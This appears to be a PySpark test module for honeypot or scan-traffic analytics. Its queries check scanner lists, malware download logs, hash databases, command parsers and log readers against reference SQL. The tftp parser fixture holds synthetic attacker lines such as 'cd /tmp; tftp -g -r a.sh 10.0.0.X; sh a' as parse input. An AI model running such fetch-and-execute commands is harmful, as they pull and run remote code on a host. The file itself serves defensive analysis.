"""Queries over what the others leave out: lists and reply files, databases, parsers, whole rows of readers and sinks."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from duskwatch.functions import net
from duskwatch.functions import payload as pl
from duskwatch.operators import enrich, reaction, reports, stats
from duskwatch.plans import busy, derived, files, queries
from duskwatch.plans.queries import query
from duskwatch.sources import folders, logs, sinks
from duskwatch.streaming.hourlog import HourLog

W = derived.BUSY_WITH
_IP = lambda c: f"concat_ws('.', {c} // 16777216, {c} // 65536 % 256, {c} // 256 % 256, {c} % 256)"


def _named(spark: SparkSession, rows: DataFrame, path: str, name: str) -> None:
    """Write lines as one small file of a given name, as the tools that feed these readers do."""
    part = files.folder(spark, "part")
    rows.coalesce(1).write.text(part)
    (own,) = [n for n in folders.names(spark, part) if n.startswith("part-")]
    folders.move(spark, f"{part}/{own}", f"{path}/{name}")
    folders.delete(spark, part)


# -- lists, downloads and replies -------------------------------------------------------------

_LISTS = {"alpha": 3, "beta": 2}


@query("scanner_lists", W + f""" SELECT userid, CASE WHEN {queries._KNOWN} <> 'unknown' THEN {queries._KNOWN} WHEN saddr % 3 = 0 THEN 'alpha' WHEN saddr % 2 = 0 THEN 'beta' ELSE 'unknown' END AS project FROM packets""")
def scanner_lists(spark, d):
    """Packets by known network, else by the first list that has their source."""
    p, path = derived.busy_packets(spark, d), files.folder(spark, "lists")
    for tag, k in _LISTS.items():
        _named(spark, p.where(F.col("saddr") % k == 0).select(net.long_to_ip("saddr").alias("value")).distinct(), path, f"ips.{tag}.txt")
    return enrich.tag_known_scanners(p, "saddr", logs.read_scanner_lists(spark, f"{path}/ips.*.txt")[0]).select("userid", "project")


@query("download_files", "SELECT sha256(coalesce(lang, '')) AS hash, source AS name, 'u' || doc_id AS url, CAST(doc_id AS VARCHAR) AS timestamp, CASE WHEN doc_id % 10 = 3 THEN 'broken' ELSE 'good' END AS kind FROM documents")
def download_files(spark, d):
    """Download logs in a folder for each hash, and the lines among them that are none."""
    path = files.folder(spark, "malware")
    line = F.concat_ws("|", "source", F.concat(F.lit("u"), F.col("doc_id").cast("string")), F.col("doc_id").cast("string"), F.lit("s"), F.when(F.col("doc_id") % 10 == 3, "t|more").otherwise("t"))
    docs = derived.read(spark, d, "documents").select(line.alias("value"), F.sha2(F.coalesce("lang", F.lit("")), 256).alias("hash"))
    docs.write.partitionBy("hash").option("compression", "gzip").text(f"{path}/parts")
    for name in folders.names(spark, f"{path}/parts"):
        if name.startswith("hash="):
            folders.move(spark, f"{path}/parts/{name}", f"{path}/{name[5:]}")
    folders.delete(spark, f"{path}/parts")
    good, bad = logs.sort_downloads(spark, f"{path}/*/*.txt.gz")
    f = F.split("value", r"\|")
    bad = bad.select(F.lit("broken").alias("kind"), F.get(f, F.lit(0)).alias("name"), F.get(f, F.lit(1)).alias("url"), F.get(f, F.lit(2)).alias("timestamp"))
    by_url = derived.read(spark, d, "documents").select(F.concat(F.lit("u"), F.col("doc_id").cast("string")).alias("url"), F.sha2(F.coalesce("lang", F.lit("")), 256).alias("hash"))
    return good.select("hash", "name", "url", "timestamp", F.lit("good").alias("kind")).unionByName(bad.join(by_url, "url").select("hash", "name", "url", "timestamp", "kind"))


@query("reputation_replies", "SELECT lang AS hash, min(CASE WHEN lang <> 'de' THEN doc_id END) AS vt_first, max(CASE WHEN lang <> 'de' THEN doc_id + 1000 END) AS vt_last FROM documents GROUP BY 1")
def reputation_replies(spark, d):
    """Names with the first and last submission of the replies in the file of their name; one name's are empty."""
    path = files.folder(spark, "replies")
    docs = derived.read(spark, d, "documents").select("doc_id", "lang")
    attributes = F.struct(F.struct(F.col("doc_id").alias("first_submission_date"), (F.col("doc_id") + 1000).alias("last_submission_date")).alias("attributes"))
    data = F.when(F.col("lang") != "de", F.array(attributes)).otherwise(F.array().cast("array<struct<attributes:struct<first_submission_date:bigint,last_submission_date:bigint>>>"))
    for lang in ("de", "en", "es", "fr"):
        _named(spark, docs.where(F.col("lang") == lang).select(F.to_json(F.struct(data.alias("data"))).alias("value")), path, f"{lang}.json")
    return enrich.first_submissions(docs.select(F.col("lang").alias("hash")).distinct(), logs.read_reputation_replies(spark, f"{path}/*.json"))


# -- the hash database ------------------------------------------------------------------------


@query("hash_database", "SELECT sha256(coalesce(text, '')) AS hash, min(doc_id) AS first_own, max(doc_id) AS last_own, min(CASE WHEN doc_id % 2 = 0 THEN doc_id END) AS first_vt FROM documents GROUP BY 1")
def hash_database(spark, d):
    """All hashes of the documents, written as JSON objects keyed by hash and read an entry a row."""
    path = files.folder(spark, "database")
    docs = derived.read(spark, d, "documents").select("doc_id", F.sha2(F.coalesce("text", F.lit("")), 256).alias("hash"))
    seen = docs.groupBy("hash").agg(F.min("doc_id").alias("a"), F.max("doc_id").alias("b"), F.min(F.when(F.col("doc_id") % 2 == 0, F.col("doc_id"))).alias("v"))
    known = F.filter(F.array(F.struct(F.lit("own").alias("k"), F.col("a").alias("t")), F.struct(F.lit("vt").alias("k"), F.col("v").alias("t"))), lambda e: e["t"].isNotNull())
    sinks.write_hash_database(seen.select("hash", F.map_from_entries(known).alias("first"), F.create_map(F.lit("own"), "b").alias("last")), path)
    return logs.read_hash_database(spark, path).select("hash", F.col("first")["own"].alias("first_own"), F.col("last")["own"].alias("last_own"), F.try_element_at("first", F.lit("vt")).alias("first_vt"))


@query("hash_report", "SELECT DISTINCT sha256(coalesce(text, '')) AS hash, lang AS type FROM (SELECT *, row_number() OVER (PARTITION BY sha256(coalesce(text, '')) ORDER BY doc_id) AS k FROM documents) WHERE k = 1 AND doc_id % 2 = 0")
def hash_report(spark, d):
    """Hashes that the reputation source knows, with the file types of a supplied table."""
    docs = derived.read(spark, d, "documents").select("doc_id", "lang", F.sha2(F.coalesce("text", F.lit("")), 256).alias("hash"))
    first = docs.groupBy("hash").agg(F.min_by("lang", "doc_id").alias("type"), F.min("doc_id").alias("doc_id"))
    return enrich.hash_report(first.select("hash"), first.where("doc_id % 2 = 0").select("hash"), require=True, types=first.select("hash", "type"))


# -- parsers ----------------------------------------------------------------------------------


def tftp_column(segment):
    """``tftp -g -r file host`` as a column of its arguments."""
    words = F.array_remove(F.split(F.trim(segment), " "), "")
    at = F.array_position(words, "-r").cast("int")  # from 1: the place of the value, from 0
    host = F.get(F.filter(words, lambda w, i: ~w.startswith("-") & (i != at)), F.lit(0))
    return F.when((at > 0) & (at < F.size(words)), F.concat(F.lit("tftp://"), host, F.lit("/"), F.get(words, at)))


def tftp_python(segment: str) -> str | None:
    words = segment.split()
    if "-r" not in words[:-1]:
        return None
    at = words.index("-r") + 1
    hosts = [w for i, w in enumerate(words) if not w.startswith("-") and i != at]
    return f"tftp://{hosts[0]}/{words[at]}" if hosts else None


_TFTP = "CASE event_id % 5 WHEN 0 THEN 'cd /tmp; tftp -g -r a' || user_id || '.sh 10.0.0.' || event_id % 250 || '; sh a' WHEN 1 THEN 'tftp 10.1.1.1 -r x -g' WHEN 2 THEN 'tftp -g 10.1.1.1' WHEN 3 THEN 'tftp -r b -g h; tftp -r c -g i' ELSE 'GET /' END"


@query("tool_parsers", """WITH k AS (SELECT 'column' AS kind UNION ALL SELECT 'table'), u AS (
    SELECT event_id, 'tftp://10.0.0.' || event_id % 250 || '/a' || user_id || '.sh' AS url, '10.0.0.' || event_id % 250 AS server FROM events WHERE event_id % 5 = 0
    UNION ALL SELECT event_id, 'tftp://10.1.1.1/x', '10.1.1.1' FROM events WHERE event_id % 5 = 1
    UNION ALL SELECT event_id, unnest(['tftp://h/b', 'tftp://i/c']), unnest(['h', 'i']) FROM events WHERE event_id % 5 = 3)
  SELECT event_id, kind, 'tftp' AS tool, url, server, '80' AS port FROM u, k""")
def tool_parsers(spark, d):
    """A tool with a parser of its own, once as a column and once as a Python function in a table function."""
    e = spark.sql(f"SELECT event_id, {_TFTP} AS text FROM {{e}}", e=derived.read(spark, d, "events"))
    found = [(pl.extract_urls(e, "text", {"tftp": tftp_column}), "column"), (pl.parsed_by(e, "text", {"tftp": tftp_python}), "table")]
    one, two = (df.select("event_id", F.lit(kind).alias("kind"), "tool", "url", "server", "port") for df, kind in found)
    return one.unionByName(two)


# -- rows of readers and sinks, whole ---------------------------------------------------------


@query("probe_requests", W + f""" SELECT userid, method, {_IP("daddr")} AS saddr, {_IP("saddr")} AS daddr, dport AS sport, sport AS dport, probe_snum AS snum, probe_anum AS anum, 1 AS num_probes FROM packets WHERE method IS NOT NULL""")
def probe_requests(spark, d):
    """The probe of each packet that got one: source and destination change places."""
    p = files.busy_log(spark, d).select("userid", net.probe_request("probed").alias("r"))
    return p.where("r is not null").select("r.userid", "r.method", "r.saddr", "r.daddr", "r.sport", "r.dport", "r.snum", "r.anum", "r.num_probes")


@query("event_reactions", queries._HANDSHAKES + f""" SELECT h.ts_ms // 1000 AS ts, p.userid, p.method, {_IP("p.daddr")} AS saddr, {_IP("p.saddr")} AS daddr, p.dport AS sport, p.sport AS dport, p.probe_anum AS anum, p.probe_snum AS snum, p.ts_ms // 1000 AS packet_s, p.ipid, p.ttl, p.options
    FROM h JOIN packets p ON p.userid = coalesce(isyn, rsyn) WHERE p.method IS NOT NULL""")
def event_reactions(spark, d):
    """What the written events say of their first packet and its probe."""
    path = files.folder(spark, "events")
    sinks.write_handshakes(sinks.with_events(queries.shakes(spark, d), derived.packets(spark, d)), path)
    e = logs.read_handshakes(spark, path).select("ts", F.coalesce("isyn", "rsyn").alias("e"))
    r, t = "e.reaction", "e.trigger"
    return e.where(f"{r} is not null").select("ts", f"{r}.userid", f"{r}.method", f"{r}.saddr", f"{r}.daddr", f"{r}.sport", f"{r}.dport", f"{r}.anum", f"{r}.snum", F.col(f"{t}.timestamp").alias("packet_s"), f"{t}.ipid", f"{t}.ttl", F.array_join(f"{t}.payload.options", ":").alias("options"))


@query("event_first_days", queries._HANDSHAKES + ", f AS (SELECT min(ts_ms) AS t FROM h) SELECT tag, isyn, rsyn FROM h, f WHERE ts_ms // 1000 < t // 3600000 * 3600 + 2 * 86400")
def event_first_days(spark, d):
    path = files.folder(spark, "events")
    sinks.write_handshakes(sinks.with_events(queries.shakes(spark, d), derived.packets(spark, d)), path)
    return logs.read_handshakes(spark, path, days=2).select("tag", F.col("isyn.reaction.userid").alias("isyn"), F.col("rsyn.reaction.userid").alias("rsyn"))


@query("event_order", queries._HANDSHAKES + " SELECT strftime(make_timestamp(ts_ms * 1000), '%Y%m%d-%H') AS hour, count(*) AS n, 0 AS unordered FROM h GROUP BY 1")
def event_order(spark, d):
    """Events of each hour's dump, and how many of them stand after a later one of the same file."""
    path = files.folder(spark, "events")
    sinks.write_handshakes(sinks.with_events(queries.shakes(spark, d), derived.packets(spark, d)), path)
    rows = spark.read.schema("ts long, hour string").json(path).select("ts", "hour", F.col("_metadata.file_name").alias("file"), F.monotonically_increasing_id().alias("at"))
    before = F.lag("ts").over(queries.Window.partitionBy("file", "hour").orderBy("at"))
    return rows.withColumn("later", before > F.col("ts")).groupBy("hour").agg(F.count(F.lit(1)).alias("n"), F.count_if("later").cast("int").alias("unordered"))


@query("broken_events", "SELECT event_id % 4 AS kind, count(*) AS n FROM events GROUP BY 1")
def broken_events(spark, d):
    """Event lines with a time and a tag, and the quarantine's three kinds: no JSON, no tag, a time that is none."""
    path = files.folder(spark, "broken")
    k = F.col("event_id") % 4
    line = F.when(k == 0, '{"ts": 5, "tag": "isyn"}').when(k == 1, '{"ts": 5, "tag"').when(k == 2, '{"ts": 5}').otherwise('{"ts": "x", "tag": "isyn"}')
    derived.read(spark, d, "events").select(line.alias("value")).write.text(path)
    good, bad = logs.sort_handshakes(spark, path)
    kind = F.when(F.col("value").endswith('"tag"'), 1).when(F.col("value").contains('"x"'), 3).otherwise(2).cast("long")
    every = good.select(F.lit(0).cast("long").alias("kind")).unionByName(bad.select(kind.alias("kind")))
    return every.groupBy("kind").agg(F.count(F.lit(1)).alias("n"))


@query("clean_rows", queries.SQL["clean_packets"].replace("SELECT userid FROM", "SELECT saddr, ts_ms, ipid FROM"))
def clean_rows(spark, d):
    return net.clean_sources(derived.busy_packets(spark, d).withColumn("flags", busy.flags()))


@query("legacy_rows", W + " SELECT userid, CASE WHEN proto = 'tcp' THEN anum ELSE 0 END AS anum, CASE WHEN proto = 'tcp' THEN event_id % 65536 ELSE 0 END AS window_size, method IS NOT NULL AS probed, CASE WHEN method IS NOT NULL THEN probe_anum END AS probe_anum, CASE WHEN method IS NOT NULL THEN probe_snum END AS probe_snum, CASE WHEN method IS NOT NULL THEN 1 END AS num_probes FROM packets WHERE method IS NOT NULL")
def legacy_rows(spark, d):
    """The columns of the older log that ``legacy_log`` leaves out."""
    p = files.busy_log(spark, d).where("method is not null")
    tcp = F.when(F.col("proto") == "tcp", F.struct("sport", "dport", "snum", "anum", "window_size"))
    trigger = F.struct(net.long_to_ip("saddr").alias("saddr"), F.col("ts_ms").alias("observed"), F.col("proto").alias("protocol"), tcp.alias("tcp"))
    path = files.folder(spark, "legacy")
    p.select(trigger.alias("trigger"), F.struct(F.col("method").alias("probe_method"), "userid", F.col("probe_anum").alias("anum"), F.col("probe_snum").alias("snum"), "num_probes").alias("reaction")).write.json(path)
    return logs.read_legacy(spark, path)[0].select("userid", "anum", "window_size", "probed", "probe_anum", "probe_snum", "num_probes")


@query("probe_payload_files", W + f" SELECT {_IP('saddr')} AS address, sport AS port, nullif(payload, '') AS payload FROM packets WHERE proto = 'udp'")
def probe_payload_files(spark, d):
    path = files.folder(spark, "results")
    sinks.write_probe_results(derived.busy_packets(spark, d).where("proto = 'udp'").select(F.col("saddr").alias("addr"), F.col("sport").alias("port"), "proto", "payload", "ts_ms"), path)
    return spark.read.schema("address string, port int, protocol string, payload string").csv(path).select("address", "port", F.nullif("payload", F.lit("")).alias("payload"))


@query("any_log", "SELECT event_id, event_type FROM events WHERE event_id % 7 <> 3")
def any_log(spark, d):
    """A log of another kind of row, read with a function that makes its columns."""
    path = files.folder(spark, "log")
    e = derived.read(spark, d, "events")
    ident = F.when(F.col("event_id") % 7 == 3, "none").otherwise(F.col("event_id").cast("string"))
    e.select(F.concat_ws("|", ident, "event_type").alias("value")).unionByName(spark.range(1).select(F.lit("id|kind").alias("value"))).write.text(path)
    good, _ = logs.read_rows(spark, path, ("id", "kind"), lambda f: {"event_id": F.get(f, F.lit(0)).try_cast("bigint"), "event_type": F.get(f, F.lit(1))}, ("event_id",))
    return good


@query("line_counts", W + " SELECT count(*) AS rows FROM packets")
def line_counts(spark, d):
    """Rows of a written log: its lines without one header a file."""
    path = files.folder(spark, "packets")
    sinks.write_packet_log(files.busy_log(spark, d), path)
    return logs.count_rows(spark, path).agg((F.sum("n") - F.count(F.lit(1))).alias("rows"))


@query("flows", W + " SELECT userid, saddr, daddr, sport, dport FROM packets WHERE proto IN ('tcp', 'udp')")
def flows(spark, d):
    p = derived.busy_packets(spark, d).select("userid", net.flow("proto", "saddr", "daddr", "sport", "dport").alias("f"))
    return p.where("f is not null").select("userid", "f.*")


# -- reports and statistics -------------------------------------------------------------------


@query("recovery_in_hour", queries._RECOVERED.replace("arg_min(payload, ts_ms * 10 + step) AS raw FROM packets", "ts_ms // 3600000 AS hr, arg_min(payload, ts_ms * 10 + step) AS raw FROM packets").replace("AND raw.snum = h.rack_snum", "AND raw.snum = h.rack_snum AND raw.hr = h.ts_ms // 3600000") + " SELECT rack, p AS rack_payload, matched FROM x WHERE tag = 'two-phase'")
def recovery_in_hour(spark, d):
    """Payloads of two-phase events from the raw log of their own hour only."""
    return reports.recover_payloads(queries.shakes(spark, d), queries.P(spark, d), same_hour=True).select("rack", "rack_payload", "matched")


@query("ports_in_order", queries._PORTS + " SELECT category, port, n, CAST(row_number() OVER (ORDER BY category, port) AS BIGINT) AS place FROM q")
def ports_in_order(spark, d):
    """The port table in order, with each row's place."""
    ordered = reports.ports_in_order(reports.port_counts(queries.shakes(spark, d))).select("category", "port", "n")
    return ordered.withColumn("place", F.row_number().over(queries.Window.orderBy("category", "port")).cast("long"))


@query("first_rows", "SELECT doc_id, lang FROM documents ORDER BY lang, doc_id LIMIT 100")
def first_rows(spark, d):
    return reports.first_rows(derived.read(spark, d, "documents").select("doc_id", "lang"), 100, "lang", "doc_id")


@query("products", "SELECT l_orderkey, CAST(sum(l_quantity * l_extendedprice) AS DOUBLE) AS total, count(*) AS n FROM lineitem GROUP BY 1")
def products(spark, d):
    li = derived.read(spark, d, "lineitem").groupBy("l_orderkey").agg(F.collect_list(F.struct(F.col("l_quantity").cast("double").alias("x"), F.col("l_extendedprice").cast("double").alias("y"))).alias("r"))
    p = stats.products(F.col("r.x"), F.col("r.y"))
    return li.select("l_orderkey", F.aggregate(p, F.lit(0.0), lambda a, b: a + b).alias("total"), F.size("r").cast("long").alias("n"))


@query("prediction_intervals", """WITH r AS (SELECT l_suppkey AS k, CAST(l_linenumber AS DOUBLE) AS x, CAST(l_extendedprice AS DOUBLE) AS y FROM lineitem UNION ALL SELECT -1, 3.0, CAST(l_extendedprice AS DOUBLE) FROM lineitem WHERE l_suppkey = 1),
  f AS (SELECT k, count(*) AS n, avg(x) AS xm, avg(y) AS ym, sum(x * x) - count(*) * avg(x) ** 2 AS rough FROM r GROUP BY k),
  g AS (SELECT f.k, any_value(n) AS n, sum((x - xm) * (x - xm)) AS sxx, sum((x - xm) * (y - ym)) AS sxy, any_value(xm) AS xm, any_value(ym) AS ym FROM r JOIN f USING (k) GROUP BY f.k),
  c AS (SELECT *, CASE WHEN sxx > 0 THEN sxy / sxx END AS m, CASE WHEN sxx > 0 THEN ym - sxy / sxx * xm END AS b FROM g),
  e AS (SELECT c.k, sum((y - (m * x + b)) ** 2) AS sse FROM r JOIN c USING (k) GROUP BY c.k),
  s AS (SELECT c.*, sse, CASE WHEN n > 2 THEN sqrt(sse / (n - 2)) * sqrt(1 + 1.0 / n + (4 - xm) ** 2 / sxx) END AS se FROM c JOIN e USING (k))
  SELECT k, n, CASE WHEN sxx < 1e-5 THEN 0.0 ELSE round(m, 4) END AS best_m, CASE WHEN sxx < 1e-5 THEN 0.0 ELSE round(b, 3) END AS best_b, round(sse, 0) AS sse, round(b + m * 4 - 3.18 * se, 2) AS low, round(b + m * 4 + 3.18 * se, 2) AS high FROM s""")
def prediction_intervals(spark, d):
    """Lines of best fit by supplier with the interval of a prediction at 4; one more group has no spread."""
    li = derived.read(spark, d, "lineitem").select(F.col("l_suppkey").cast("long").alias("k"), F.col("l_linenumber").cast("double").alias("x"), F.col("l_extendedprice").cast("double").alias("y"))
    flat = li.where("k = 1").select(F.lit(-1).cast("long").alias("k"), F.lit(3.0).alias("x"), "y")
    fit = stats.fit_by(li.unionByName(flat), ["k"], "x", "y", x0=4.0, t=3.18)
    places = {"best_m": 4, "best_b": 3, "sse": 0, "low": 2, "high": 2}
    return fit.select("k", "n", *[F.round(c, k).alias(c) for c, k in places.items()])


@query("reputation_of_sources", W + """, c AS (SELECT saddr, count(*) AS n, count(DISTINCT daddr) AS targets FROM packets GROUP BY 1), r AS (SELECT saddr, CASE WHEN n > 40 THEN 'malicious' WHEN targets > 1 THEN 'unknown' ELSE 'benign' END AS classification, targets > 3 AS spoofable FROM c WHERE saddr % 5 <> 2)
  SELECT userid, coalesce(classification, 'no result') AS classification, coalesce(CAST(spoofable AS VARCHAR), 'no result') AS spoofable FROM packets LEFT JOIN r USING (saddr)""")
def reputation_of_sources(spark, d):
    """Packets with the reputation of their source in a snapshot made from what sources did; some have none."""
    p = derived.busy_packets(spark, d)
    seen = p.groupBy(F.col("saddr").alias("ip")).agg(F.count(F.lit(1)).alias("n"), F.count_distinct("daddr").alias("targets")).where("ip % 5 <> 2")
    kind = F.when(F.col("n") > 40, "malicious").when(F.col("targets") > 1, "unknown").otherwise("benign")
    return enrich.add_reputation(p, "saddr", seen.select("ip", kind.alias("classification"), (F.col("targets") > 3).alias("spoofable"))).select("userid", "classification", "spoofable")


@query("counter_changes", "SELECT event_id, event_id * 7919 % 1000 - coalesce(lag(event_id * 7919 % 1000) OVER w, 0) AS a_delta, length(event_type) - coalesce(lag(length(event_type)) OVER w, 0) AS b_delta FROM events WINDOW w AS (PARTITION BY user_id ORDER BY event_id)")
def counter_changes(spark, d):
    """Changes of two counters that also fall, by user."""
    e = derived.read(spark, d, "events").select("event_id", "user_id", (F.col("event_id") * 7919 % 1000).alias("a"), F.length("event_type").cast("long").alias("b"))
    return reaction.counter_deltas(e, ["user_id"], "event_id", ["a", "b"]).select("event_id", "a_delta", "b_delta")


@query("closed_hours", derived.WITH + f", p AS (SELECT userid, {derived.TWO_DAYS} + ts_ms % 172800000 AS ts_ms, event_id % 3 AS b FROM packets), k AS (SELECT *, ts_ms // 3600000 AS h, max(ts_ms // 3600000) OVER (ORDER BY b RANGE BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) AS newest FROM p) SELECT h * 3600000 AS log_hour_ms, count(*) AS n, CAST(sum(userid) AS BIGINT) AS ids FROM k WHERE h >= newest - 1 GROUP BY 1")
def closed_hours(spark, d):
    """An hour log that takes three micro-batches; what is older than the two open hours is rejected, then all are closed."""
    p = derived.packets(spark, d)
    p = p.withColumns({"ts_ms": F.lit(derived.TWO_DAYS) + F.col("ts_ms") % 172_800_000, "window_size": F.lit(1), "probed": F.col("method").isNotNull(), "num_probes": F.lit(1)})
    log = HourLog(spark, files.folder(spark, "hours"))
    for number in range(3):
        log.write(p.where(F.col("event_id") % 3 == number), number)
    log.close()
    return logs.read_packets(spark, log.path)[0].groupBy("log_hour_ms").agg(F.count(F.lit(1)).alias("n"), F.sum("userid").alias("ids"))
